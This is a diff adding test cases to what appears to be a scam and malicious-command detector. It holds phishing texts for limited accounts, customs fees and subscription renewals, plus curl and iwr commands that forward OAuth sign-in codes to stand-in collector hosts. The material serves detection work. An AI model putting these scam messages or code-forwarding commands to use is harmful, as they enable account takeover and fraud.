@@ -33,6 +33,23 @@ Techniques:
   in Notepad), a requirements or constraints list handed to pip (pip install -r / --constraint
   <url>.txt: the warning an install from an address is bare, never a block), a project's own
   page running its own file (info).
+- `account-limited` (known gap): "your PayPal account has been limited / we have limited your
+  account … call" (English; German's "eingeschränkt" was read already): a scam, blocked beside
+  the brand. Look-alikes: the genuine notice that sends you to the company's own site typed by
+  hand ("log in to paypal.com", "melden Sie sich bei paypal.de an") or its app, and names no
+  scam's needs, with a number for questions; a storage plan "limited to 5 GB". A look-alike
+  site (paypal-resolve.help) is no company's own.
+- `customs-fee-call` (known gap): a parcel held for a customs, import or delivery fee, to pay
+  by calling (en de fr es it pt nl): a warning. Look-alikes: a carrier's notice that says pay
+  online or in the app with a number for questions, duty charged to the account on delivery,
+  a delivery fee with a number to change the time.
+- `consentfix-code-sent` (known gap): a command that fetches an address on another host whose
+  query carries a loopback sign-in redirect with its code (as it is or percent-encoded): the
+  code handed to that host, blocked. Look-alikes: a token exchange with the sign-in service
+  (redirect_uri and code siblings in one query), an authorize request naming a loopback
+  redirect, a developer's curl of their own loopback callback.
+- `renewal-call` (decided): "your subscription will renew for $399.99, to cancel call …" is a
+  warning brandless and blocked with a brand; real small businesses send the brandless form.
 - `bare-download-run` (by design, a warning): a plain HTTPS download piped into a shell or
   handed to iex, from an unknown host, with no page or from a page about software, and nothing
   else in the text: developers paste exactly this shape from projects no list knows, so only a
@@ -287,6 +304,148 @@ add(
     "linux",
     "terminal",
     "https://github.com/tallowsoft/dotkit",
+)
+
+# ---- account-limited (known gap): "your PayPal account has been limited, call …" ------------
+LIMITED = [
+    "Your PayPal account has been limited. To restore access, call PayPal Resolution Center at "
+    "+1 (555) 014-3321.",
+    "Your PayPal account has been limited due to unusual activity. Call us now at 1-555-018-2290 "
+    "to remove the limitation.",
+    "Your Amazon account has been restricted. To restore access, call Amazon support at "
+    "+1 (555) 016-4410.",
+    "Ihr PayPal-Konto wurde eingeschränkt. Um den Zugang wiederherzustellen, rufen Sie "
+    "0800 555 1432 an.",
+    "Your account has been limited. Log in to paypal-resolve.help or call 1-888-555-0134 to "
+    "restore access.",
+]
+for i, text in enumerate(LIMITED):
+    add("account-limited", text, "malicious", source=LOCK_PAGES[i % len(LOCK_PAGES)])
+# the brandless form: a warning
+add(
+    "account-limited",
+    "We have temporarily limited your account. Call our resolution team at 1-555-017-2209 to "
+    "restore access.",
+    "suspicious",
+)
+# the genuine notice sends you to the company's own site (typed by hand) or its app
+add(
+    "account-limited",
+    "We've limited your account. Log in to paypal.com to see what we need from you. Questions? "
+    "Call us at 1-888-555-0134.",
+    "not_flagged",
+)
+add(
+    "account-limited",
+    "Your account has been limited. Please log in to paypal.com and go to the Resolution Center "
+    "to provide the information we need. Questions? Call us at 1-888-555-0134.",
+    "not_flagged",
+)
+add(
+    "account-limited",
+    "Ihr Konto wurde eingeschränkt. Bitte melden Sie sich bei paypal.de an, um die nötigen "
+    "Angaben zu machen. Fragen? Rufen Sie uns an: 0800 555 0134.",
+    "not_flagged",
+)
+add(
+    "account-limited",
+    "Your storage plan is limited to 5 GB. Upgrade in the app or call sales at 1-888-555-0100.",
+    "not_flagged",
+)
+
+# ---- customs-fee-call (known gap): a parcel's fee to pay by calling ---------------------------
+CUSTOMS = [
+    "Your parcel is held at customs. A fee of $2.99 is due. Call 1-555-013-7788 to pay and "
+    "release it.",
+    "USPS: your package could not be delivered, unpaid import duty of $1.99. Please call "
+    "+1 (555) 014-2290 to settle the fee.",
+    "Ihr Paket liegt beim Zoll. Zollgebühr 2,49 €. Rufen Sie 0800 555 3312 an, um die Gebühr zu "
+    "bezahlen.",
+    "Votre colis est bloqué en douane : frais de 1,99 €. Appelez le 01 55 50 33 21 pour payer et "
+    "débloquer la livraison.",
+    "Su paquete está retenido en aduana. Tasas de aduana: 2,99 €. Llame al +34 555 010 456 para "
+    "pagar.",
+    "Il tuo pacco è fermo in dogana: dazi di 2,50 €. Chiama il 02 5550 1234 per pagare e "
+    "sbloccare la consegna.",
+    "Sua encomenda está retida na alfândega. Taxa de R$ 12,90. Ligue 0800 555 0142 para pagar e "
+    "liberar.",
+    "Uw pakket ligt bij de douane. Invoerrechten € 2,95. Bel 088 555 0123 om direct te betalen.",
+]
+for i, text in enumerate(CUSTOMS):
+    add("customs-fee-call", text, "suspicious", source=LOCK_PAGES[(i + 3) % len(LOCK_PAGES)])
+add(
+    "customs-fee-call",
+    "DHL: import duty of €12.40 is due for your parcel. Pay online at dhl.de/zoll or in the DHL "
+    "app. Questions? Call 0228 555 1234.",
+    "not_flagged",
+)
+add(
+    "customs-fee-call",
+    "Royal Mail: your parcel has a £1.45 customs fee outstanding. Pay it online at "
+    "royalmail.com/fees. Questions? Call 0345 555 0199.",
+    "not_flagged",
+)
+add(
+    "customs-fee-call",
+    "Customs clearance for your shipment: duty of $34.20 will be charged to your account on "
+    "delivery. Questions about the charge? Call 1-800-555-0177.",
+    "not_flagged",
+)
+add(
+    "customs-fee-call",
+    "Your order has shipped. Delivery fee: $4.99. Call 555-0144 to change the delivery time.",
+    "not_flagged",
+)
+
+# ---- consentfix-code-sent (known gap): a loopback redirect, code and all, sent on by curl ----
+SENT = [
+    'curl "https://collector.example/cb?u=http%3A%2F%2Flocalhost%3A8400%2Fcallback%3Fcode%3D'
+    'M.C507_BAY.2.U.abcdef123456%26state%3Dxyz"',
+    'iwr "https://relay-sync.test/r?next=http://127.0.0.1:53682/?state=a81Fz&code='
+    '4/0AeanS0bXq8c1Tq2PZk9vYw"',
+    "curl -s 'https://auth-bridge.invalid/collect?redirect=http%3A%2F%2Flocalhost%3A3000%2Fauth"
+    "%2Fcallback%3Fcode%3D8f3kQm2Lz9XwP4tR7vB1%26state%3Dq1'",
+]
+for i, text in enumerate(SENT):
+    add("consentfix-code-sent", text, "malicious", "any", "terminal", LOCK_PAGES[i % 2])
+# a token exchange with the sign-in service (code and redirect_uri siblings), an authorize
+# request naming a loopback redirect, a developer's own loopback callback
+add(
+    "consentfix-code-sent",
+    'curl "https://login.example.com/oauth2/token?redirect_uri=http://localhost:8080/callback'
+    '&code=abc123XYZ789defGHI"',
+    "not_flagged",
+    "any",
+    "terminal",
+)
+add(
+    "consentfix-code-sent",
+    'curl "https://auth.example.com/authorize?client_id=abc&redirect_uri='
+    'http%3A%2F%2Flocalhost%3A8080%2Fcallback&response_type=code"',
+    "not_flagged",
+    "any",
+    "terminal",
+)
+add(
+    "consentfix-code-sent",
+    'curl "http://localhost:8080/callback?code=abc123XYZ789defGHI&state=1"',
+    "not_flagged",
+    "any",
+    "terminal",
+)
+
+# ---- renewal-call (decided: brandless stays a warning) ---------------------------------------
+# A renewal "to cancel, call" with no brand is a warning, with a brand it is blocked: gyms,
+# magazines and insurers send the brandless form for real, so a block would hit them.
+add(
+    "renewal-call",
+    "Your subscription will renew for $399.99. To cancel, call +1 (555) 014-8821.",
+    "suspicious",
+)
+add(
+    "renewal-call",
+    "Your Norton subscription will renew for $399.99. To cancel, call +1 (555) 014-8821.",
+    "malicious",
 )
 
 # ---- bare-download-run (by design: a warning) -------------------------------------------------
